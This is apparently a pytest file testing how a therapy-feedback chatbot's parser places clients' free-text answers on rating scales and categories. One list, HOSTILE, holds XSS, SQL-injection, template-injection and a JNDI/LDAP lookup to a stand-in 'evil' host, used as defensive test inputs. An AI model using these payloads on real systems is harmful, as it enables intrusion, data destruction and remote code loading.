"""Free-text answers land on the right slot value, and answers that say nothing are not placed."""

from __future__ import annotations

import dataclasses
import random
import time
from datetime import date

import pytest

from reflection import answer_parsing
from reflection.answer_parsing import SCALE_SLOTS, Parsed, is_skip, parse_answer, read_answer
from reflection.answers.readings import ReadingKind
from tests.contract import RATED_SLOTS

NOT_PLACED = "<not placed>"


def placed(slot: str, text: str) -> object:
    """The value an answer lands on, or NOT_PLACED (kept apart from a placed None)."""
    parsed = parse_answer(slot, text)
    return NOT_PLACED if parsed is None else parsed.value


# --------------------------------------------------------------------------------------------------------
# The must-pass list from the brief
# --------------------------------------------------------------------------------------------------------

MUST_PASS = [
    ("felt_heard", "not really, she seems distracted", 2),
    ("felt_heard", "mostly yes", 4),
    ("felt_heard", "kind of, some days yes some days no", 3),
    ("felt_heard", "rarely", 2),
    ("felt_heard", "2", 2),
    ("felt_heard", "4 out of 5", 4),
    ("felt_heard", "3/5", 3),
    ("homework_fit", "she doesn't give homework", "none"),
    ("raised_needs", "I brought it up twice and nothing changed", "yes_no_change"),
    ("sessions_so_far", "about six sessions", "established"),
    ("sessions_so_far", "over a year now", "long_term"),
]


@pytest.mark.parametrize(("slot", "text", "expected"), MUST_PASS)
def test_must_pass_answers(slot: str, text: str, expected: object) -> None:
    assert placed(slot, text) == expected


# --------------------------------------------------------------------------------------------------------
# Scale answers: numbers
# --------------------------------------------------------------------------------------------------------

NUMBER_ANSWERS = [
    ("1", 1),
    ("5", 5),
    ("4.", 4),
    (" 3 ", 3),
    ("four", 4),
    ("Five!", 5),
    ("a solid 4", 4),
    ("I'd say a 3", 3),
    ("I'd give her a 4", 4),
    ("I'd rate my therapist a 2", 2),
    ("honestly she's a 3", 3),
    ("probably a 4", 4),
    ("3ish", 3),
    ("4-ish", 4),
    ("4, mostly", 4),
    ("4 because she listens", 4),
    ("3 on a good day", 3),
    ("4/5", 4),
    ("2 / 5", 2),
    ("4 out of 5", 4),
    ("four out of five", 4),
    ("5 stars", 5),
    ("\u2b50\u2b50\u2b50", 3),
    ("0", 1),
    ("0/5", 1),
    ("6 out of 5", 5),
    ("7 out of 10", 4),
    ("7/10", 4),
    ("10/10", 5),
    ("5/10", 3),
    ("2 out of 10", 1),
    ("0 out of 10", 1),
    ("8", 4),
    ("a 9", 5),
    ("80%", 4),
    ("100%", 5),
    ("50 percent", 3),
    ("between 3 and 4", 3),
    ("between 4 and 5", 4),
    ("between 1 and 2", 2),
    ("3-4", 3),
    ("3 or 4", 3),
    ("2 or 3", 3),
    ("3, maybe 4", 3),
    ("3.5", 3),
    ("4.5", 4),
    ("1.5", 2),
    ("3.8", 4),
    ("two and a half", 3),
    ("not a 5, more like a 3", 3),
    ("she was a 2 at first, now a 4", 4),
    ("\uff14", 4),
]


@pytest.mark.parametrize(("text", "expected"), NUMBER_ANSWERS)
def test_numbers_on_a_scale(text: str, expected: int) -> None:
    assert placed("felt_heard", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "2 sessions in and I can't tell yet",
        "it's a 10 minute walk from my place",
        "I have 2 kids",
        "she is 2 hours away",
        "11",
        "15",
        "-",
        "not a 5",
        "I wouldn't give her a 5",
    ],
)
def test_numbers_that_are_not_ratings_are_not_placed(text: str) -> None:
    assert placed("felt_heard", text) == NOT_PLACED


def test_a_number_beats_the_words_around_it() -> None:
    assert placed("felt_heard", "yes, 5") == 5
    assert placed("depth", "it's surface level, a 2") == 2


@pytest.mark.parametrize(
    ("text", "expected"),
    [("no i said 4", 4), ("I said 1", 1), ("no, I said a 2", 2), ("no its a 2", 2), ("no more like a 2", 2)],
)
def test_a_rating_said_again_after_a_no_is_the_rating(text: str, expected: int) -> None:
    assert placed("approach_fit", text) == expected


@pytest.mark.parametrize("text", ["not a 4", "I never said 4", "no 4 is too high"])
def test_a_number_said_not_to_be_the_rating_is_not_placed(text: str) -> None:
    assert placed("approach_fit", text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# Scale answers: words that mean the same in every scale slot
# --------------------------------------------------------------------------------------------------------

GENERAL_WORD_ANSWERS = [
    # agreement
    ("no", 1),
    ("nope", 1),
    ("nah", 1),
    ("absolutely not", 1),
    ("not at all", 1),
    ("Honestly, not at all", 1),
    ("not really", 2),
    ("not really tbh", 2),
    ("no, not really", 2),
    ("a bit", 2),
    ("a little", 2),
    ("not much", 2),
    ("not very", 2),
    ("probably not", 2),
    ("I don't think so", 2),
    ("could be better", 2),
    ("somewhat", 3),
    ("kind of", 3),
    ("Kinda", 3),
    ("sort of", 3),
    ("maybe", 3),
    ("meh", 3),
    ("so-so", 3),
    ("ok", 3),
    ("it's fine", 3),
    ("yes and no", 3),
    ("it depends", 3),
    ("hit or miss", 3),
    ("50/50", 3),
    ("mostly yes", 4),
    ("yes mostly", 4),
    ("Yeah, mostly", 4),
    ("pretty much", 4),
    ("probably", 4),
    ("I think so", 4),
    ("yes I guess", 4),
    ("not bad", 4),
    ("not too bad really", 4),
    ("can't complain", 4),
    ("good", 4),
    ("pretty good so far", 4),
    ("yes", 4),
    ("Yeah", 4),
    ("yep!", 4),
    ("absolutely", 5),
    ("definitely", 5),
    ("totally", 5),
    ("of course", 5),
    ("very much so", 5),
    ("yes 100%", 5),
    ("great", 5),
    ("really well", 5),
    # frequency
    ("never", 1),
    ("almost never", 2),
    ("rarely", 2),
    ("hardly ever", 2),
    ("sometimes", 3),
    ("not always", 3),
    ("some days", 3),
    ("often", 4),
    ("usually", 4),
    ("most of the time", 4),
    ("most of the time to be honest", 4),
    ("always", 5),
    ("every time", 5),
    ("all the time", 5),
    ("mostly no", 2),
    ("sometimes she doesn't", 3),
    ("she doesn't always", 3),
    # negated evaluations
    ("not great", 2),
    ("not good", 2),
    ("not terrible", 3),
    ("not 100%", 3),
    ("not completely", 3),
    # emoji, typos, shouting, spacing, punctuation
    ("\U0001f44d", 4),
    ("\U0001f44e", 2),
    ("\U0001f610", 3),
    ("\U0001f44d\U0001f3fd", 4),
    ("\u2764\ufe0f", 5),
    ("\U0001f62d", 1),
    ("somtimes", 3),
    ("alwasy", 5),
    ("usally", 4),
    ("definately", 5),
    ("yesss", 4),
    ("noooo", 1),
    ("MOSTLY YES", 4),
    ("   mostly   yes   ", 4),
    ("mostly yes!!!", 4),
    ("Mostly yes...", 4),
    ("prolly", 4),
    ("I agree", 4),
    ("strongly agree", 5),
    ("disagree", 2),
    ("strongly disagree", 1),
    ("sometimes when I push", 3),
    ("rarely, if ever", 2),
]


@pytest.mark.parametrize(("text", "expected"), GENERAL_WORD_ANSWERS)
def test_general_words_on_a_scale(text: str, expected: int) -> None:
    assert placed("felt_heard", text) == expected


@pytest.mark.parametrize("slot", SCALE_SLOTS)
@pytest.mark.parametrize(
    ("text", "expected"), [("mostly yes", 4), ("rarely", 2), ("2", 2), ("yes and no", 3), ("not at all", 1)]
)
def test_general_words_mean_the_same_in_every_scale_slot(slot: str, text: str, expected: int) -> None:
    assert placed(slot, text) == expected


# --------------------------------------------------------------------------------------------------------
# Scale answers: what each question's own words mean
# --------------------------------------------------------------------------------------------------------

FELT_HEARD = [
    ("she talks over me", 2),
    ("she always talks over me", 1),
    ("she talks over me sometimes", 3),
    ("she never listens", 1),
    ("she doesn't really listen", 2),
    ("she doesn't listen at all", 1),
    ("she interrupts a lot", 2),
    ("she cuts me off all the time", 1),
    ("she's always on her phone", 1),
    ("she always checks the clock", 1),
    ("I feel judged", 2),
    ("she's dismissive of my feelings", 2),
    ("she seems bored", 2),
    ("she forgets what I told her last week", 2),
    ("I don't feel heard", 2),
    ("I'm not sure she listens", 2),
    ("I never feel heard", 1),
    ("no, she talks over me", 1),
    ("she listens", 4),
    ("she gets me", 4),
    ("she really gets me", 5),
    ("I feel heard", 4),
    ("I feel completely understood", 5),
    ("she takes me seriously", 4),
    ("she's very kind and understanding", 4),
    ("she's a great listener", 5),
    ("she doesn't judge me", 4),
    ("yes, she always listens", 5),
    ("yes, but she sometimes talks over me", 4),
    ("I feel respected but not always understood", 3),
    ("she listens but doesn't really get it", 3),
    ("she's great but rushes me", 3),
    ("she brushes off what I say", 2),
    ("she lets me talk", 4),
    ("not as much as I'd like", 2),
    ("yes, she does", 4),
    ("she does", 4),
    ("yes, she listens", 4),
    ("mostly, she listens", 4),
    ("sort of, she listens but forgets stuff", 3),
    ("Mostly, but she sometimes interrupts", 4),
    ("she makes me feel small", 2),
    ("I can be myself with her", 4),
]

DEPTH = [
    ("it's all surface level", 2),
    ("surface", 2),
    ("not really, it's pretty surface level", 2),
    ("we mostly stay on the surface", 2),
    ("it's all small talk", 2),
    ("we just chat about my week", 2),
    ("we barely scratch the surface", 1),
    ("it feels like we're going in circles", 2),
    ("we talk about the same stuff every week", 2),
    ("she avoids the hard stuff", 2),
    ("not deep enough", 2),
    ("could go deeper", 2),
    ("I'd like it to go deeper", 2),
    ("not as deep as I'd like", 2),
    ("I wish we went deeper", 2),
    ("it's quite superficial", 2),
    ("no depth at all", 1),
    ("lacks depth", 2),
    ("We never really get to the root of things", 1),
    ("it's mostly venting", 2),
    ("kind of shallow", 3),
    ("Sometimes we go deep, sometimes it's just catching up", 3),
    ("deep enough", 4),
    ("yes, we go deep", 4),
    ("we get into the real stuff", 4),
    ("they go below the surface", 4),
    ("we've had a few breakthroughs", 4),
    ("very deep", 5),
    ("mostly, but it's all surface level", 3),
    ("we really dig into my childhood", 5),
]

ADVICE_FIT = [
    ("she just gives generic tips", 2),
    ("it's too general", 2),
    ("it's vague", 2),
    ("too vague to use", 2),
    ("it's all common sense", 2),
    ("the advice doesn't fit my life", 2),
    ("not really, it's stuff I could find on google", 2),
    ("it's like reading a self-help book", 2),
    ("mostly platitudes", 2),
    ("it's one size fits all", 2),
    ("hard to apply to my life", 2),
    ("unrealistic for someone with kids", 2),
    ("it's a bit generic", 3),
    ("some of it fits, some doesn't", 3),
    ("mostly useful", 4),
    ("it fits well", 4),
    ("realistic", 4),
    ("she gives me specific steps", 4),
    ("it's practical and I can actually use it", 4),
    ("yeah it works for me", 4),
    ("very concrete", 5),
    ("way too generic", 1),
    ("she doesn't really give advice", None),  # no advice at all: the question does not apply (issue 8)
    ("she just listens", 2),
    ("it's stuff I already knew", 2),
    ("good advice, but hard to fit into my life", 3),
    ("it's tailored to me", 5),
]

HOMEWORK_FIT = [
    ("the worksheets are cookie-cutter", 2),
    ("they're generic", 2),
    ("it's just busywork", 2),
    ("they feel like they're meant for someone else", 2),
    ("they're photocopied from a book", 2),
    ("too much homework", 2),
    ("the worksheets don't fit my situation at all", 1),
    ("not really", 2),
    ("no", NOT_PLACED),
    ("nope", NOT_PLACED),
    ("some of it fits", 3),
    ("it's ok", 3),
    ("it's relevant", 4),
    ("they help a lot", 4),
    ("they don't help", 2),
    ("the homework fits my situation", 4),
    ("she adapts them to me", 4),
    ("there is no homework", "none"),
    ("she doesn't give homework", "none"),
    ("She doesn't really give us any homework.", "none"),
    ("no homework", "none"),
    ("No worksheets yet", "none"),
    ("we don't do worksheets", "none"),
    ("I never get any worksheets", "none"),
    ("we haven't had any", "none"),
    ("there isn't any", "none"),
    ("we've never done worksheets", "none"),
    ("she's never given me homework", "none"),
    ("I've never been given any homework", "none"),
    ("she hasn't given me any", "none"),
    ("We don't get homework", "none"),
    ("n/a", "none"),
    ("N/A", "none"),
    ("none", "none"),
    ("not applicable", "none"),
    ("no, we just talk", "none"),
]

GOALS_SHARED = [
    ("we never talked about goals", 1),
    ("we never set goals", 1),
    ("no goals", 1),
    ("no clear plan", 2),
    ("she decided what we work on", 2),
    ("she decides everything", 2),
    ("I'm not sure what we're working on", 2),
    ("I don't know what our goals are", 2),
    ("not really, she just picks topics", 2),
    ("it feels aimless", 2),
    ("there's no clear goal", 2),
    ("it was mostly her idea", 2),
    ("we just go with the flow", 2),
    ("sort of", 3),
    ("kind of, we talked about it once", 3),
    ("we have goals but she set them", 3),
    ("we agreed on a plan", 4),
    ("yes, we set them together", 5),
    ("we're on the same page", 4),
    ("it's collaborative", 4),
    ("she asks me what I want to work on", 4),
    ("we set goals together in the first session", 5),
    ("totally", 5),
]

APPROACH_FIT = [
    ("he changed things when I said it wasn't working", 4),
    ("she adapts to me", 4),
    ("yes, they adjust", 4),
    ("she's open to feedback", 4),
    ("she tries different things", 4),
    ("very flexible", 5),
    ("he asks for feedback every session", 5),
    ("it feels one-size-fits-all", 2),
    ("rigid", 2),
    ("she's pretty rigid", 2),
    ("she got defensive when I gave feedback", 2),
    ("she doesn't change anything", 2),
    ("I told her it wasn't working and she kept doing the same thing", 2),
    ("it's always the same", 1),
    ("it's the same every week", 1),
    ("she sticks to the same script every time", 1),
    ("sometimes", 3),
    ("not really", 2),
    ("feels like she's following a manual", 2),
    ("she's set in her ways", 2),
    ("she's open to changing things", 4),
    ("she won't budge", 2),
    ("she does the same thing every session", 1),
]


@pytest.mark.parametrize(
    ("slot", "text", "expected"),
    [("felt_heard", text, value) for text, value in FELT_HEARD]
    + [("depth", text, value) for text, value in DEPTH]
    + [("advice_fit", text, value) for text, value in ADVICE_FIT]
    + [("homework_fit", text, value) for text, value in HOMEWORK_FIT]
    + [("goals_shared", text, value) for text, value in GOALS_SHARED]
    + [("approach_fit", text, value) for text, value in APPROACH_FIT],
)
def test_slot_specific_words(slot: str, text: str, expected: object) -> None:
    assert placed(slot, text) == expected


def test_doing_no_homework_yourself_is_not_no_homework() -> None:
    assert placed("homework_fit", "I don't do the homework") != "none"


@pytest.mark.parametrize("slot", [s for s in SCALE_SLOTS if s != "homework_fit"])
@pytest.mark.parametrize("text", ["she doesn't give homework", "she never gives homework", "no homework"])
def test_no_homework_says_nothing_about_the_other_questions(slot: str, text: str) -> None:
    assert placed(slot, text) == NOT_PLACED


@pytest.mark.parametrize("slot", SCALE_SLOTS)
@pytest.mark.parametrize("number", ["1", "2", "3", "4", "5"])
def test_scale_button_payloads(slot: str, number: str) -> None:
    value = placed(slot, number)
    assert value == int(number)
    assert isinstance(value, int)


# --------------------------------------------------------------------------------------------------------
# Scale answers that must not be placed
# --------------------------------------------------------------------------------------------------------

NOT_PLACEABLE = [
    "",
    "   ",
    "I don't know",
    "idk",
    "dunno",
    "not sure",
    "no idea",
    "hmm",
    "hmm...",
    "hard to say",
    "\U0001f937",
    "why?",
    "what do you mean?",
    "why do you ask?",
    "can you explain what you mean by that?",
    "?",
    "!!!",
    "...",
    "asdfgh",
    "banana",
    "I like pizza",
    "the cat sat on the mat",
    "what's the weather like",
    "the weather is good today",
    "my dog is great",
    "I always eat breakfast",
    "tell me a joke",
    "ok thanks",
    "thanks",
    "hello",
    "lorem ipsum dolor sit amet",
    "skip",
    "I'd rather not say",
]


@pytest.mark.parametrize("slot", SCALE_SLOTS)
@pytest.mark.parametrize("text", NOT_PLACEABLE)
def test_answers_that_say_nothing_are_not_placed(slot: str, text: str) -> None:
    assert placed(slot, text) == NOT_PLACED


HOSTILE = [
    "<script>alert(1)</script>",
    "<b>4</b>",
    "<img src=x onerror=alert(5)>",
    "'; DROP TABLE answers; --",
    "1; DROP TABLE users",
    "SELECT * FROM users WHERE 1=1",
    "5 UNION SELECT password FROM users",
    "{{7*7}}",
    "${jndi:ldap://evil/5}",
    "http://example.com/5",
    "4 " * 3000,
    "yes " * 3000,
    "x" * 10_000,
    "\u00bfQu\u00e9 quieres decir?",
    "tr\u00e8s bien",
    "\u0445\u043e\u0440\u043e\u0448\u043e",
    "\u597d\u7684",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e9",
    "99999999999999999999",
    "\x00\x01\x02",
]


@pytest.mark.parametrize("slot", [*SCALE_SLOTS, "sessions_so_far", "raised_needs"])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_or_foreign_input_is_not_placed_on_structured_slots(slot: str, text: str) -> None:
    assert placed(slot, text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# sessions_so_far
# --------------------------------------------------------------------------------------------------------

SESSIONS = [
    ("3", "early"),
    ("0", "early"),
    ("once", "early"),
    ("twice", "early"),
    ("a couple", "early"),
    ("a few", "early"),
    ("I've had two", "early"),
    ("first session", "early"),
    ("this is my first time", "early"),
    ("this is only my second session", "early"),
    ("this is my third", "early"),
    ("a week", "early"),
    ("a few weeks", "early"),
    ("3 weeks", "early"),
    ("less than a month", "early"),
    ("just started", "early"),
    ("I'm new", "early"),
    ("not long", "early"),
    ("just the intake so far", "early"),
    ("about six sessions", "established"),
    ("4", "established"),
    ("5ish", "established"),
    ("a handful", "established"),
    ("several", "established"),
    ("I've seen her 8 times", "established"),
    ("maybe 10 or so", "established"),
    ("a dozen", "established"),
    ("12", "established"),
    ("my 10th session", "established"),
    ("3 or 4 sessions", "established"),
    ("a month", "established"),
    ("about a month", "established"),
    ("6 weeks", "established"),
    ("two months", "established"),
    ("a couple of months", "established"),
    ("a month or two", "established"),
    ("about 3 months", "established"),
    ("a few months", "established"),
    ("every other week for 3 months", "established"),
    ("biweekly for 2 months", "established"),
    ("10 sessions over 3 months", "established"),
    ("13", "long_term"),
    ("15 sessions", "long_term"),
    ("twenty five sessions", "long_term"),
    ("around 20", "long_term"),
    ("more than 12", "long_term"),
    ("4 months", "long_term"),
    ("six months", "long_term"),
    ("half a year", "long_term"),
    ("several months", "long_term"),
    ("months", "long_term"),
    ("nearly a year", "long_term"),
    ("over a year now", "long_term"),
    ("a year and a half", "long_term"),
    ("1.5 years", "long_term"),
    ("18 months", "long_term"),
    ("almost 2 years", "long_term"),
    ("years", "long_term"),
    ("on and off for 5 years", "long_term"),
    ("once a week for a year", "long_term"),
    ("twice a week for two months", "long_term"),
    ("a long time", "long_term"),
    ("ages", "long_term"),
    ("since 2015", "long_term"),
    ("for the past year", "long_term"),
    # the buttons offered with the question
    ("3 sessions or fewer", "early"),
    ("4 to 12 sessions", "established"),
    ("more than 12 sessions", "long_term"),
    # "-odd", a typo in the tail, a part of a year, a holiday (read on the test's today, see placed)
    ("40-odd by now", "long_term"),
    ("ten odd sessions", "established"),
    ("5 so far i thnk", "established"),
    ("we started in late 2021", "long_term"),
    ("weekly since the middle of 2024", "long_term"),
    ("every week since last christmas", "long_term"),
    # a bare count with its hedges set off by commas; "early" said on its own
    ("I've had three now, I think", "early"),
    ("um, 12, maybe", "established"),
    ("Early.", "early"),
    ("still early", "early"),
    ("its early days", "early"),
    # a price is no length of time
    ("six months. six months of paying £70 a week for basically nothing", "long_term"),
    ("£60 a session for 3 sessions", "early"),
    ("about a year, $120 per session", "long_term"),
]


@pytest.mark.parametrize(("text", "expected"), SESSIONS)
def test_sessions_so_far(text: str, expected: str) -> None:
    assert placed("sessions_so_far", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a while",
        "weeks",
        "last year",
        "less than a year",
        "less than 3 months",
        "I don't remember",
        "not sure",
        "1000000",
        "she's great",
        "early to say",
        "I leave early",
        "3, but she is nice",
        "",
    ],
)
def test_sessions_answers_that_give_no_length_are_not_placed(text: str) -> None:
    assert placed("sessions_so_far", text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# raised_needs
# --------------------------------------------------------------------------------------------------------

RAISED_NEEDS = [
    ("no", "not_yet"),
    ("nope", "not_yet"),
    ("not yet", "not_yet"),
    ("Not yet.", "not_yet"),
    ("I haven't", "not_yet"),
    ("never", "not_yet"),
    ("not really", "not_yet"),
    ("not exactly", "not_yet"),
    ("I'm scared to", "not_yet"),
    ("I'm too nervous", "not_yet"),
    ("I want to but I don't know how", "not_yet"),
    ("I will next session", "not_yet"),
    ("yes and it got better", "yes_helped"),
    ("she listened and changed", "yes_helped"),
    ("yes, and it helped", "yes_helped"),
    ("yes it helped", "yes_helped"),
    ("I did and it helped a lot", "yes_helped"),
    ("yes, she was really receptive", "yes_helped"),
    ("yes, a little better", "yes_helped"),
    ("yes, she adjusted the homework", "yes_helped"),
    ("we switched to a different approach after I asked", "yes_helped"),
    ("it made a difference", "yes_helped"),
    ("nothing changed at first but now it's better", "yes_helped"),
    ("I brought it up twice and nothing changed", "yes_no_change"),
    ("yes but nothing changed", "yes_no_change"),
    ("yes, but nothing changed", "yes_no_change"),
    ("tried, didn't help", "yes_no_change"),
    ("No, it didn't help", "yes_no_change"),
    ("I mentioned it but she brushed it off", "yes_no_change"),
    ("she said she'd change but didn't", "yes_no_change"),
    ("it helped at first but then went back to the same", "yes_no_change"),
    ("she got defensive", "yes_no_change"),
    ("I haven't noticed any change", "yes_no_change"),
    ("she didn't listen", "yes_no_change"),
    ("she said it was normal and moved on", "yes_no_change"),
    ("it's still the same", "yes_no_change"),
    ("kind of, but it didn't go anywhere", "yes_no_change"),
    ("I hinted but she didn't pick up on it", "yes_no_change"),
    ("I told her I needed more structure and she's been great about it", "yes_helped"),
    ("yeah, she started giving me more practical stuff", "yes_helped"),
    ("no, I don't want to upset her", "not_yet"),
    ("I've been meaning to", "not_yet"),
    ("yes, she was very open to it", "yes_helped"),
    ("yeah it went well", "yes_helped"),
    ("had a word with him last month and he fixed it", "yes_helped"),
    ("she said fine, then we were straight back to the usual chat", "yes_no_change"),
    ("I have to ask over and over, nothing ever changes", "yes_no_change"),
    ("he nods and carries on the same", "yes_no_change"),
    ("still psyching myself up to it", "not_yet"),
    ("nah, bottling it up as usual", "not_yet"),
]


@pytest.mark.parametrize(("text", "expected"), RAISED_NEEDS)
def test_raised_needs(text: str, expected: str) -> None:
    assert placed("raised_needs", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "yes",
        "Yes!",
        "yeah",
        "I told her",
        "I tried",
        "kind of",
        "sort of, I hinted at it",
        "I told her, we'll see",
        "she said she'd try",
        "I don't know",
        "no idea",
        "banana",
    ],
)
def test_raised_needs_without_an_outcome_is_not_placed(text: str) -> None:
    """A bare "yes" does not say whether anything changed, so the bot asks which."""
    assert placed("raised_needs", text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# hopes
# --------------------------------------------------------------------------------------------------------

HOPES_KEPT = [
    ("to feel less anxious at work", "to feel less anxious at work"),
    ("  To feel less anxious at work.  ", "To feel less anxious at work."),
    ("be a better dad \U0001f60a", "be a better dad \U0001f60a"),
    ("\U0001f60a", "\U0001f60a"),
    ("sleep", "sleep"),
    ("Honestly? I just want to stop feeling stuck", "Honestly? I just want to stop feeling stuck"),
    ("I don't know, maybe to understand myself better", "I don't know, maybe to understand myself better"),
    ("not sure yet, but to cope with grief", "not sure yet, but to cope with grief"),
    ("tools for my panic attacks\nand better sleep", "tools for my panic attacks\nand better sleep"),
    ("sentirme mejor", "sentirme mejor"),
    ("to stop the 3am spirals", "to stop the 3am spirals"),
    ("<b>confidence</b>", "<b>confidence</b>"),
    ("to feel\x00 heard", "to feel heard"),
    ("CONFIDENCE!!!", "CONFIDENCE!!!"),
    ("peace", "peace"),
    ("to be able to say no to people", "to be able to say no to people"),
]


@pytest.mark.parametrize(("text", "expected"), HOPES_KEPT)
def test_hopes_are_kept_in_the_clients_own_words(text: str, expected: str) -> None:
    assert placed("hopes", text) == expected


def test_hopes_are_capped_at_1000_characters() -> None:
    value = placed("hopes", "a" * 10_000)
    assert isinstance(value, str)
    assert len(value) == 1000


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "...",
        "?!",
        "---",
        "I don't know",
        "idk",
        "not sure",
        "hmm",
        "no idea",
        "yes",
        "no",
        "ok",
        "nothing",
        "why do you ask?",
        "skip",
        "pass",
        "thanks",
        "\n\t",
    ],
)
def test_hopes_that_say_nothing_are_not_placed(text: str) -> None:
    assert placed("hopes", text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# missing / tell_more (optional free text)
# --------------------------------------------------------------------------------------------------------

NOTHING_MISSING = [
    "nothing",
    "Nothing.",
    "no",
    "No!",
    "nope",
    "nah",
    "not really",
    "Not really.",
    "nothing really",
    "all good",
    "it's all good",
    "I'm good",
    "nothing comes to mind",
    "can't think of anything",
    "not that I can think of",
    "no, she's great",
    "nothing, I'm happy with it",
    "I think it's fine",
    "none",
    "n/a",
    "\U0001f44d",
]


@pytest.mark.parametrize("slot", ["missing", "tell_more"])
@pytest.mark.parametrize("text", NOTHING_MISSING)
def test_nothing_missing_is_placed_as_none(slot: str, text: str) -> None:
    assert parse_answer(slot, text) == Parsed(None)


MISSING_KEPT = [
    "more structure",
    "  More homework that fits my life. ",
    "not really, but more structure would help",
    "no, but I wish she'd remember what I said",
    "nothing feels personal",
    "nothing, except maybe more direction",
    "she never asks how I'm doing \U0001f614",
    "A plan. We don't have one.",
    "feedback on how I'm doing",
    "time to talk about my childhood",
    "no one asks about my culture",
]


@pytest.mark.parametrize("slot", ["missing", "tell_more"])
@pytest.mark.parametrize("text", MISSING_KEPT)
def test_something_missing_is_kept_verbatim(slot: str, text: str) -> None:
    assert placed(slot, text) == text.strip()


@pytest.mark.parametrize("text", ["", "   ", "...", "I don't know", "hmm", "skip", "rather not say"])
def test_missing_that_says_nothing_is_not_placed(text: str) -> None:
    assert placed("missing", text) == NOT_PLACED


# --------------------------------------------------------------------------------------------------------
# is_skip
# --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "skip",
        "Skip.",
        "SKIP!",
        "pass",
        "skip this one",
        "skip this question",
        "rather not say",
        "I'd rather not say",
        "I'd rather not",
        "prefer not to say",
        "next question",
        "next",
        "can we skip this",
        "skip please",
        "I'll pass",
        "pass on this one",
        "let's move on",
        "no comment",
        "I don't want to answer that",
        "  skip  ",
    ],
)
def test_skip_phrases(text: str) -> None:
    assert is_skip(text)


@pytest.mark.parametrize(
    "text",
    [
        "I skip sessions sometimes",
        "she lets me pass on homework",
        "next session I will",
        "no",
        "yes",
        "",
        "I'd rather not say it's bad, but it is",
        "passable",
        "skipping breakfast",
        "not sure",
    ],
)
def test_not_skip_phrases(text: str) -> None:
    assert not is_skip(text)


# --------------------------------------------------------------------------------------------------------
# Kinds of error found by a blind evaluation (new phrasings, not the evaluation's own)
# --------------------------------------------------------------------------------------------------------

# 1. A plain yes is 4 (it says which side, not how far); a word of degree takes it to 5. A flat no is 1.
PLAIN_YES_AND_NO = [
    ("felt_heard", "yup", 4),
    ("felt_heard", "Yeah!", 4),
    ("felt_heard", "yes she does", 4),
    ("felt_heard", "yeah I do", 4),
    ("depth", "yes", 4),
    ("depth", "yep we do", 4),
    ("approach_fit", "sure", 4),
    ("advice_fit", "yes it does", 4),
    ("goals_shared", "yeah, I guess", 4),
    ("felt_heard", "yes, maybe", 4),
    ("felt_heard", "yes, totally", 5),
    ("felt_heard", "yeah, definitely", 5),
    ("felt_heard", "for sure", 5),
    ("felt_heard", "yes, she always makes time for me", 5),
    ("homework_fit", "yes, they're really useful", 5),
    ("felt_heard", "yes, but she rushes me", 3),
    ("felt_heard", "nah", 1),
    ("depth", "no", 1),
    ("felt_heard", "no, she doesn't", 1),
    ("felt_heard", "no, not really", 2),
]

# 2. A frequency gives a positive cue its own value; "get past / go beyond" a negative cue is the positive
#    thing, so "never" there is 1; "never" + a bad thing itself is mirrored; "that ..." stays in scope.
FREQUENCY_AND_DOUBLE_NEGATION = [
    ("depth", "we never move past surface stuff", 1),
    ("depth", "honestly we never get beyond the catching up", 1),
    ("depth", "we rarely get beyond small talk", 2),
    ("depth", "sometimes we get past the surface", 3),
    ("depth", "we usually get past the small talk pretty fast", 4),
    ("depth", "we always go beyond the chitchat", 5),
    ("depth", "we can't get past the small talk", 2),
    ("depth", "it never goes deeper than chit chat", 1),
    ("depth", "it's never more than small talk", 1),
    ("depth", "it's never superficial", 5),
    ("advice_fit", "she never suggests anything that fits my situation", 1),
    ("advice_fit", "he never gives me tips that are realistic", 1),
    ("advice_fit", "she rarely gives advice that applies to me", 2),
    ("advice_fit", "she always gives advice that works for me", 5),
    ("advice_fit", "she doesn't give tips that are generic", 4),
    ("advice_fit", "never relevant", 1),
    ("advice_fit", "it's never generic", 5),
    ("homework_fit", "it never fits my situation", 1),
    ("felt_heard", "she never interrupts", 5),
    ("felt_heard", "she never interrupts which is great", 5),
    ("approach_fit", "she's never flexible", 1),
    ("approach_fit", "never rigid", 5),
    ("goals_shared", "she never asks about my goals", 1),
]

# 3. Strong words reach the ends of the scale.
STRONG_WORDS = [
    ("felt_heard", "I feel completely heard", 5),
    ("felt_heard", "she understood me completely", 5),
    ("homework_fit", "they fit my situation perfectly", 5),
    ("goals_shared", "totally agreed", 5),
    ("advice_fit", "always practical", 5),
    ("homework_fit", "designed just for me", 5),
    ("goals_shared", "it's a real partnership", 5),
    ("felt_heard", "not even a bit", 1),
    ("felt_heard", "not one bit", 1),
    ("goals_shared", "zero say in it", 1),
    ("approach_fit", "she has zero flexibility whatsoever", 1),
    ("goals_shared", "no one ever asks what I want", 1),
    ("felt_heard", "nobody ever really listens", 1),
    ("felt_heard", "nobody ever interrupts me", 5),
    ("advice_fit", "a total one-size-fits-all thing", 1),
    ("homework_fit", "complete busywork", 1),
    ("advice_fit", "utter platitudes", 1),
    ("felt_heard", "zero complaints", NOT_PLACED),
    ("felt_heard", "it's the real deal", NOT_PLACED),
]

# 4. Small amounts are 2, halves are 3, and a frequency sets the value on its own.
AMOUNTS = [
    ("advice_fit", "just a little", 2),
    ("advice_fit", "maybe a little bit", 2),
    ("felt_heard", "a little, I guess", 2),
    ("homework_fit", "roughly half", 3),
    ("advice_fit", "about half of it", 3),
    ("homework_fit", "half of them fit", 3),
    ("felt_heard", "half the time she's on her phone", 3),
    ("approach_fit", "usually pretty open to feedback", 4),
    ("felt_heard", "usually really attentive", 4),
    ("advice_fit", "usually very practical", 4),
    ("felt_heard", "always very kind", 5),
]


@pytest.mark.parametrize(
    ("slot", "text", "expected"), PLAIN_YES_AND_NO + FREQUENCY_AND_DOUBLE_NEGATION + STRONG_WORDS + AMOUNTS
)
